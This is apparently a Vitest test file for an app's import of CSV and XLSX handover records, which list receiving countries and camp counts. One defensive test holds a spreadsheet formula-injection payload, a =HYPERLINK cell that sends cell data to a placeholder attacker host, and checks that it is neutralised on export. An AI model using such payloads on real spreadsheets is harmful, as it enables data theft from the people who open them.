import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import iconv from 'iconv-lite';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { listAudit } from '../../db/queries/audit';
import { getHandoverByReference } from '../../db/queries/handovers';
import { listVersions } from '../../db/queries/versions';
import { AppError } from '../../electron/api/result';
import { contentHash, contentOf } from '../../electron/services/content';
import { CANONICAL_COLUMNS } from '../../electron/api/domain/import';
import { resolveCountryName } from '../../electron/api/schemas/country-resolver';
import { parseDate } from '../../electron/services/import/dates';
import { importFile, sha256, type ImportOptions } from '../../electron/services/import/service';
import { kyrgyzHandover, testApp, type TestApp } from '../support/context';
import { heldBytes } from '../support/files';

const FIXTURES = join(import.meta.dirname, '../fixtures/import');
let app: TestApp;
beforeEach(() => (app = testApp()));
afterEach(() => app.close());

const HEADER = CANONICAL_COLUMNS.join(',');
const csv = (...rows: string[]) => Buffer.from([HEADER, ...rows].join('\r\n') + '\r\n', 'utf8');
const row = (ref: string, over: Partial<Record<(typeof CANONICAL_COLUMNS)[number], string>> = {}) => {
  const base: Record<string, string> = {
    reference_no: ref,
    handover_date: '2023-02-16',
    receiving_country: 'KG',
    delegation_head_name: 'Arslan Tokobaev',
    delegation_head_title: 'Head of delegation',
    delegation_body: 'Ministry of Foreign Affairs',
    handing_official_name: 'سامر حسن',
    location: 'Qamishli',
    camp_of_origin: 'al_hol',
    women_count: '18',
    children_count: '41',
    boys_count: '20',
    girls_count: '21',
    unaccompanied_count: '0',
    men_count: '0',
    notes: '',
    ...over,
  };
  return CANONICAL_COLUMNS.map((c) => (/[",\r\n]/.test(base[c]) ? `"${base[c].replace(/"/g, '""')}"` : base[c])).join(
    ',',
  );
};
const run = (data: Buffer, options: ImportOptions = {}, name = 'sheet.csv') =>
  importFile(app.ctx, app.caller, { name, data }, options);
const count = (table = 'handovers') =>
  (app.ctx.db.sqlite.prepare(`SELECT count(*) AS n FROM ${table}`).get() as { n: number }).n;
const snapshotDb = () =>
  ['handovers', 'handover_versions', 'audit_log', 'handover_search', 'settings'].map((t) => count(t));

async function fileError(data: Buffer, options: ImportOptions = {}): Promise<AppError> {
  const before = snapshotDb();
  const err = await run(data, options).then(
    () => null,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(AppError);
  expect(snapshotDb()).toEqual(before);
  return err as AppError;
}

describe('import of the canonical CSV', () => {
  it('records finalized, imported handovers with version 1 as finalize freezes it, and audits the file name and SHA-256', async () => {
    const data = csv(
      row('HO-2023-0001'),
      row('HO-2023-0002', {
        receiving_country: 'France',
        camp_of_origin: 'roj',
        women_count: '15',
        children_count: '32',
        boys_count: '',
        girls_count: '',
      }),
    );
    const r = await run(data, {}, 'office-2023.csv');
    expect(r.counts).toEqual({ rows: 2, new: 2, unchanged: 0, conflict: 0, rejected: 0 });
    expect(r.committed).toBe(true);
    const h = getHandoverByReference(app.ctx.db.orm, 'HO-2023-0002')!;
    expect(h).toMatchObject({
      status: 'finalized',
      version: 1,
      source: 'import',
      sourceRef: sha256(data),
      receivingCountry: 'FR',
      camp: 'roj',
      boysCount: 0,
    });
    expect(h.handingAuthority).toBe('Department of Foreign Relations, Qamishli'); // the office's setting
    const versions = listVersions(app.ctx.db.orm, h.id);
    expect(versions).toHaveLength(1);
    expect(versions[0].contentHash).toBe(contentHash(contentOf(app.ctx, h)));
    const audit = await listAudit(app.ctx.db.orm, 'import', sha256(data));
    expect(audit).toHaveLength(1);
    expect(audit[0].details).toMatchObject({ fileName: 'office-2023.csv', sha256: sha256(data), new: 2 });
    // Found by search like any other record.
    const found = await app.must('handovers:list', { search: 'Tokobaev' });
    expect(found.rows).toHaveLength(2);
  });

  it('--as-draft records drafts without a version', async () => {
    await run(csv(row('HO-2023-0001')), { asDraft: true });
    const h = getHandoverByReference(app.ctx.db.orm, 'HO-2023-0001')!;
    expect(h.status).toBe('draft');
    expect(listVersions(app.ctx.db.orm, h.id)).toHaveLength(0);
  });

  it('a dry run reports the same outcome and writes nothing', async () => {
    const before = snapshotDb();
    const r = await run(csv(row('HO-2023-0001'), row('HO-2023-0002', { receiving_country: 'Narnia' })), {
      dryRun: true,
    });
    expect(r.counts).toMatchObject({ new: 1, rejected: 1 });
    expect(r.committed).toBe(false);
    expect(snapshotDb()).toEqual(before);
  });
});

describe('a status column (our export writes one): drafts stay drafts, void stays void', () => {
  const withState = (...rows: [string, string, string][]) =>
    Buffer.from(
      [`${HEADER},status,void_reason`, ...rows.map(([ref, status, reason]) => `${row(ref)},${status},${reason}`)].join(
        '\r\n',
      ) + '\r\n',
      'utf8',
    );

  it('reads the codes and the app’s words in Arabic and Kurdish; a void record keeps its reason and version 1', async () => {
    const r = await run(
      withState(
        ['HO-1', 'finalized', ''],
        ['HO-2', 'مسودة', ''],
        ['HO-3', 'ملغى', 'Duplicate of HO-1'],
        ['HO-4', 'Betalkirî', 'Ducarî'],
        ['HO-5', '', ''],
      ),
    );
    expect(r.counts).toMatchObject({ new: 5, rejected: 0 });
    const get = (ref: string) => getHandoverByReference(app.ctx.db.orm, ref)!;
    expect(['HO-1', 'HO-2', 'HO-3', 'HO-4', 'HO-5'].map((ref) => get(ref).status)).toEqual([
      'finalized',
      'draft',
      'void',
      'void',
      'finalized',
    ]);
    expect(get('HO-3').voidReason).toBe('Duplicate of HO-1');
    expect(get('HO-1').voidReason).toBeNull();
    expect(listVersions(app.ctx.db.orm, get('HO-3').id)).toHaveLength(1);
    expect(listVersions(app.ctx.db.orm, get('HO-2').id)).toHaveLength(0);
    expect((await listAudit(app.ctx.db.orm, 'import', r.sha256))[0].details).toMatchObject({
      statuses: { finalized: 2, draft: 1, void: 2 },
    });
  });

  it('an unknown status, or void without a reason, rejects the row with its line', async () => {
    const before = snapshotDb();
    const r = await run(withState(['HO-1', 'cancelled', ''], ['HO-2', 'void', '']), { dryRun: true });
    expect(r.rows.map((o) => [o.line, o.outcome, o.reasons])).toEqual([
      [2, 'rejected', [{ key: 'io.reason.unknown_status', column: 'status', value: 'cancelled' }]],
      [3, 'rejected', [{ key: 'validation.required', column: 'void_reason' }]],
    ]);
    expect(snapshotDb()).toEqual(before);
  });

  it('--as-draft makes finalized rows drafts but never un-voids one', async () => {
    await run(withState(['HO-1', 'finalized', ''], ['HO-2', 'void', 'Entered twice']), { asDraft: true });
    expect(getHandoverByReference(app.ctx.db.orm, 'HO-1')!.status).toBe('draft');
    expect(getHandoverByReference(app.ctx.db.orm, 'HO-2')!.status).toBe('void');
  });

  it('a sheet saying void for a finalized record here is a conflict: the record is not voided by an import', async () => {
    await run(withState(['HO-1', 'finalized', '']));
    const r = await run(withState(['HO-1', 'void', 'Entered twice']));
    expect(r.counts).toMatchObject({ conflict: 1, new: 0 });
    expect(r.rows[0].differences).toEqual([
      { column: 'status', file: 'void', stored: 'finalized' },
      { column: 'void_reason', file: 'Entered twice', stored: '' },
    ]);
    expect(getHandoverByReference(app.ctx.db.orm, 'HO-1')!.status).toBe('finalized');
    // An empty status cell does not contradict the stored one.
    expect((await run(withState(['HO-1', '', '']))).counts).toMatchObject({ unchanged: 1 });
  });
});

describe('idempotency and conflicts', () => {
  it('re-importing the same file changes nothing and says "already present"', async () => {
    const data = csv(row('HO-2023-0001'), row('HO-2023-0002', { receiving_country: 'FR' }));
    await run(data);
    const before = snapshotDb();
    const again = await run(data);
    expect(again.counts).toMatchObject({ new: 0, unchanged: 2 });
    expect(again.rows.every((o) => o.reasons[0].key === 'io.reason.already_present')).toBe(true);
    expect(snapshotDb()).toEqual(before);
  });

  it('a record typed in the app and the same row in a sheet are the same handover', async () => {
    await app.must('handovers:create', { data: kyrgyzHandover({ handingOfficialName: 'سامر حسن' }) });
    const r = await run(
      csv(
        row('HO-2023-0001', {
          delegation_body: 'Ministry of Foreign Affairs of the Kyrgyz Republic',
          handover_date: '16/02/2023',
          receiving_country: 'Kyrgyzstan',
        }),
      ),
    );
    expect(r.counts).toMatchObject({ unchanged: 1, new: 0 });
  });

  it('the same reference with different content is a conflict, listed with both values, never overwritten', async () => {
    await run(csv(row('HO-2023-0001')));
    const stored = getHandoverByReference(app.ctx.db.orm, 'HO-2023-0001')!;
    const r = await run(csv(row('HO-2023-0001', { women_count: '19', notes: 'corrected' }), row('HO-2023-0003')));
    expect(r.counts).toMatchObject({ conflict: 1, new: 1 });
    const c = r.rows.find((o) => o.outcome === 'conflict')!;
    expect(c.line).toBe(2);
    expect(c.existingId).toBe(stored.id);
    expect(c.differences).toEqual([
      { column: 'women_count', file: '19', stored: '18' },
      { column: 'notes', file: 'corrected', stored: '' },
    ]);
    expect(getHandoverByReference(app.ctx.db.orm, 'HO-2023-0001')).toEqual(stored);
  });

  it('strict mode writes nothing when one row is rejected', async () => {
    const before = snapshotDb();
    const r = await run(csv(row('HO-2023-0001'), row('HO-2023-0002', { handover_date: '31/02/2023' })), {
      strict: true,
    });
    expect(r.counts).toMatchObject({ new: 1, rejected: 1 });
    expect(r.committed).toBe(false);
    expect(snapshotDb()).toEqual(before);
  });

  it('duplicated references inside one file: an identical copy is dropped, differing copies are both rejected', async () => {
    const r = await run(
      csv(row('HO-1'), row('HO-1'), row('HO-2'), row('HO-2', { women_count: '3' }), row('ho-2', { women_count: '4' })),
    );
    expect(r.rows.map((o) => [o.line, o.outcome, o.reasons[0]?.key ?? ''])).toEqual([
      [2, 'new', ''],
      [3, 'rejected', 'io.reason.duplicate_in_file'],
      [4, 'rejected', 'io.reason.duplicate_in_file_differs'],
      [5, 'rejected', 'io.reason.duplicate_in_file_differs'],
      [6, 'rejected', 'io.reason.duplicate_in_file_differs'],
    ]);
    expect(count()).toBe(1);
  });
});

describe('rows rejected with their line number and a reason key', () => {
  it('reports each bad row, its column and value; line numbers count physical lines', async () => {
    const r = await run(
      csv(
        row('HO-1', { notes: 'two\nlines' }),
        row('HO-2', { handover_date: '03/04/2023' }),
        row('HO-3', { receiving_country: 'Atlantis' }),
        row('HO-4', { boys_count: '30', girls_count: '30' }),
        row('HO-5', { women_count: 'twelve' }),
        row('', {}),
        row('HO-7', { women_count: '0', children_count: '0', boys_count: '0', girls_count: '0' }),
        row('HO-8', { camp_of_origin: '' }),
        row('HO-9', { children_count: '', boys_count: '0', girls_count: '0' }),
      ),
    );
    const byLine = Object.fromEntries(
      r.rows.filter((o) => o.outcome === 'rejected').map((o) => [o.line, o.reasons.map((x) => `${x.column}:${x.key}`)]),
    );
    expect(byLine).toEqual({
      4: ['handover_date:io.reason.ambiguous_date'],
      5: ['receiving_country:validation.unknown_country'],
      6: ['boys_count:validation.split_exceeds_children'],
      7: ['women_count:validation.not_a_number'],
      8: ['reference_no:validation.required'],
      9: ['women_count:validation.no_persons'],
      // A camp the sheet does not name stays unrecorded (line 10 is imported); a count the totals need may not be empty.
      11: ['children_count:validation.required'],
    });
    expect(r.counts).toMatchObject({ new: 2, rejected: 7 });
    expect(getHandoverByReference(app.ctx.db.orm, 'HO-8')).toMatchObject({ camp: 'other', campOther: '' });
  });

  it('an ambiguous date is settled by --date-order, or by the other rows of the file', async () => {
    expect(
      (await run(csv(row('HO-1', { handover_date: '03/04/2023' })), { dryRun: true, dateOrder: 'mdy' })).counts.new,
    ).toBe(1);
    const r = await run(
      csv(row('HO-1', { handover_date: '03/04/2023' }), row('HO-2', { handover_date: '25/12/2023' })),
    );
    expect(r.dateOrder).toBe('dmy');
    expect(getHandoverByReference(app.ctx.db.orm, 'HO-1')!.handoverDate).toBe('2023-04-03');
  });

  it('unknown columns are reported, missing optional ones default, unnamed parties stay unrecorded', async () => {
    const data = Buffer.from(
      'reference_no,handover_date,receiving_country,delegation_head_name,camp_of_origin,women_count,children_count,colour\nHO-9,2020-01-01,DE,Max Muster,roj,2,0,blue\n',
    );
    await app.must('settings:set', { patch: { handingOfficialName: 'سامر حسن' } });
    const r = await run(data);
    expect(r.unknownColumns).toEqual(['colour']);
    expect(r.counts.new).toBe(1);
    // Today's official did not sign this record: the sheet names nobody, so nobody is recorded (issue 10).
    expect(getHandoverByReference(app.ctx.db.orm, 'HO-9')).toMatchObject({
      childrenCount: 0,
      menCount: 0,
      notes: '',
      location: '',
      handingOfficialName: '',
      sourceFile: 'sheet.csv',
      sourceRow: 2,
    });
  });
});

describe('delimiters', () => {
  it('takes the delimiter from the header line, not from data full of semicolons', async () => {
    const r = await run(csv(row('HO-1', { delegation_head_name: 'x;y x;y', handing_official_name: 'a;b;c' })));
    expect(r).toMatchObject({ delimiter: ',', counts: { new: 1 } });
    const tab = await run(Buffer.from(`${HEADER.replace(/,/g, '\t')}\n${row('HO-2').replace(/,/g, '\t')}\n`), {
      dryRun: true,
    });
    expect(tab).toMatchObject({ delimiter: '\t', counts: { new: 1 } });
  });
});

describe('Arabic files', () => {
  it('reads Arabic headers, Arabic country names, Arabic-Indic digits (UTF-8 without BOM)', async () => {
    const r = await run(readFileSync(join(FIXTURES, 'arabic-headers.csv')));
    expect(r.encoding).toBe('utf-8');
    expect(r.unknownColumns).toEqual([]);
    expect(r.counts).toMatchObject({ new: 3, rejected: 0 });
    expect(getHandoverByReference(app.ctx.db.orm, 'HO-2019-0101')).toMatchObject({
      handoverDate: '2019-11-05',
      receivingCountry: 'KZ',
      camp: 'al_hol',
      womenCount: 12,
      childrenCount: 30,
      notes: 'تسليم وفق وثيقة رسمية، بحضور ممثلين',
    });
    expect(getHandoverByReference(app.ctx.db.orm, 'HO-2021-0103')).toMatchObject({
      receivingCountry: 'XK',
      camp: 'al_hol',
    });
    expect(getHandoverByReference(app.ctx.db.orm, 'HO-2020-0102')).toMatchObject({
      receivingCountry: 'RU',
      delegationHeadName: 'Анна Кузнецова',
    });
  });

  it('reads Windows-1256 with semicolons, and the same file with a UTF-8 BOM, to the same records', async () => {
    const bytes = readFileSync(join(FIXTURES, 'arabic-cp1256.csv'));
    const r = await run(bytes);
    expect(r).toMatchObject({ encoding: 'windows-1256', delimiter: ';', dateOrder: 'dmy' });
    expect(r.counts).toMatchObject({ new: 3, rejected: 0 });
    expect(getHandoverByReference(app.ctx.db.orm, 'HO-2019-0201')).toMatchObject({
      receivingCountry: 'KZ',
      handingOfficialName: 'سامر حسن',
      menCount: 33,
      notes: 'تسليم وفق وثيقة رسمية',
    });
    const utf8 = Buffer.concat([
      Buffer.from([0xef, 0xbb, 0xbf]),
      Buffer.from(iconv.decode(bytes, 'windows-1256'), 'utf8'),
    ]);
    const again = await run(utf8);
    expect(again).toMatchObject({ encoding: 'utf-8' });
    expect(again.counts).toMatchObject({ unchanged: 3, new: 0 });
  });
});

describe('receiving countries and dates', () => {
  it.each([
    ['KG', 'KG'],
    ['kgz', 'KG'],
    ['Kyrgyzstan', 'KG'],
    ['قيرغيزستان', 'KG'],
    ['Kosovo', 'XK'],
    ['XKX', 'XK'],
    ['كوسوفو', 'XK'],
    ['Kosova', 'XK'],
    ['DEU', 'DE'],
    ['germany', 'DE'],
    ['ألمانيا', 'DE'],
    ['Almanya', 'DE'],
    ['TÜRKIYE', 'TR'],
    ['Turkey', 'TR'],
    ['fransa', 'FR'],
    ['The Netherlands', 'NL'],
    ['Atlantis', null],
    ['', null],
    ['XX', null],
  ])('%s → %s', (input, code) => {
    const r = resolveCountryName(input);
    expect(r.ok ? r.code : null).toBe(code);
  });

  it.each([
    ['2023-02-16', undefined, '2023-02-16'],
    ['16/02/2023', undefined, '2023-02-16'],
    ['16.02.2023', undefined, '2023-02-16'],
    ['16-2-2023', undefined, '2023-02-16'],
    ['05/05/2023', undefined, '2023-05-05'],
    ['03/04/2023', 'dmy', '2023-04-03'],
    ['03/04/2023', 'mdy', '2023-03-04'],
    ['١٦/٠٢/٢٠٢٣', undefined, '2023-02-16'],
  ] as const)('%s (%s) → %s', (input, order, iso) =>
    expect(parseDate(input, order)).toEqual({ ok: true, iso, precision: 'day' }),
  );

  it.each([
    ['03/04/2023', 'ambiguous_date'],
    ['31/02/2023', 'invalid_date'],
    ['2023-13-01', 'invalid_date'],
    ['Feb 30 2023', 'invalid_date'],
    ['13/13/2023', 'invalid_date'],
  ])('%s is %s', (input, key) => expect(parseDate(input)).toEqual({ ok: false, key }));
});

describe('bad files: a clear report, nothing changed', () => {
  const reason = async (data: Buffer) => (await fileError(data)).details?.reason;

  it('empty file, blank lines only, header only', async () => {
    expect(await reason(Buffer.alloc(0))).toBe('io.file.empty');
    expect(await reason(Buffer.from('\r\n\r\n  \n'))).toBe('io.file.empty');
    expect(await reason(Buffer.from(`${HEADER}\r\n`))).toBe('io.file.no_rows');
  });

  it('binary garbage, a PNG, a PDF, an old .xls, a damaged .xlsx', async () => {
    const garbage = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256));
    expect(await reason(garbage)).toBe('io.file.not_tabular');
    expect(await reason(Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), garbage]))).toBe(
      'io.file.not_tabular',
    );
    expect(await reason(Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nstream\n\x00\x01\x02\x03'))).toBe(
      'io.file.not_tabular',
    );
    expect(await reason(Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), garbage]))).toBe(
      'io.file.xls_not_supported',
    );
    expect(await reason(Buffer.concat([Buffer.from('PK\x03\x04'), garbage]))).toBe('io.file.unreadable_xlsx');
  });

  it('a file larger than the limit is refused before it is parsed', async () => {
    const err = await fileError(Buffer.alloc(41 * 1024 * 1024, 0x61));
    expect(err.code).toBe('TOO_LARGE');
  });

  it('mixed encodings (UTF-8 lines and Windows-1256 lines)', async () => {
    const data = Buffer.concat([
      csv(row('HO-1', { notes: 'ملاحظة' })),
      iconv.encode(`${row('HO-2', { notes: 'ملاحظة' })}\r\n`, 'windows-1256'),
    ]);
    expect(await reason(data)).toBe('io.file.mixed_encoding');
  });

  it('a sheet without the required columns names them', async () => {
    const err = await fileError(Buffer.from('name,age\nx,1\n'));
    expect(err.details).toMatchObject({
      reason: 'io.file.missing_columns',
      params: { columns: 'reference_no, handover_date, receiving_country, women_count, children_count' },
    });
  });
});

describe('formula injection', () => {
  it('a =HYPERLINK cell is stored as text, exported with a leading apostrophe, and reads back unchanged', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    await run(
      csv(row('HO-1', { notes: evil, delegation_head_name: '@SUM(1+1)', delegation_body: '+cmd', location: '-2+3' })),
    );
    const h = getHandoverByReference(app.ctx.db.orm, 'HO-1')!;
    expect(h.notes).toBe(evil);
    for (const format of ['csv', 'xlsx'] as const) {
      const file = await app.must('io:export', { format });
      const bytes = heldBytes(app.ctx, file);
      if (format === 'csv') {
        const text = bytes.toString('utf8');
        expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
        expect(text).toContain("'@SUM(1+1)");
        expect(text).not.toMatch(/(^|,)"?[=+\-@]/m);
      }
      const again = await run(bytes, {}, `export.${format}`);
      expect(again.counts).toMatchObject({ unchanged: 1, new: 0, conflict: 0 });
    }
  });
});

describe('XLSX from other offices', () => {
  it('reads real Excel dates, numbers, rich text, hyperlinks and formula results (never the formula)', async () => {
    const ExcelJS = (await import('exceljs')).default;
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('سجل');
    ws.addRow([
      'Reference',
      'Date',
      'Country',
      'Head of delegation',
      'المسؤول المسلم',
      'Camp',
      'Women',
      'Children',
      'Notes',
    ]);
    ws.addRow([
      'HO-2019-0401',
      new Date(Date.UTC(2019, 10, 5)),
      'Kazakhstan',
      { richText: [{ text: 'Ahmed ' }, { text: 'Aliyev', font: { bold: true } }] },
      'سامر حسن',
      'Hol',
      12,
      { formula: 'B3+1', result: 30 },
      { text: 'protocol', hyperlink: 'http://example.org' },
    ]);
    ws.addRow([
      'HO-2019-0402',
      new Date(Date.UTC(2019, 0, 2)),
      'KAZ',
      'X',
      'Y',
      'Roj',
      1,
      0,
      { formula: 'HYPERLINK("http://evil","x")', result: 'x' },
    ]);
    const data = Buffer.from(await wb.xlsx.writeBuffer());
    const r = await run(data, {}, 'office.xlsx');
    expect(r).toMatchObject({ format: 'xlsx', encoding: 'xlsx', unknownColumns: [] });
    expect(r.counts).toMatchObject({ new: 2, rejected: 0 });
    expect(getHandoverByReference(app.ctx.db.orm, 'HO-2019-0401')).toMatchObject({
      handoverDate: '2019-11-05',
      receivingCountry: 'KZ',
      delegationHeadName: 'Ahmed Aliyev',
      camp: 'al_hol',
      childrenCount: 30,
      notes: 'protocol',
    });
    // 2 January, not 1 February: a date cell is a date, not text to guess at.
    expect(getHandoverByReference(app.ctx.db.orm, 'HO-2019-0402')).toMatchObject({
      handoverDate: '2019-01-02',
      notes: 'x',
    });
  });
});
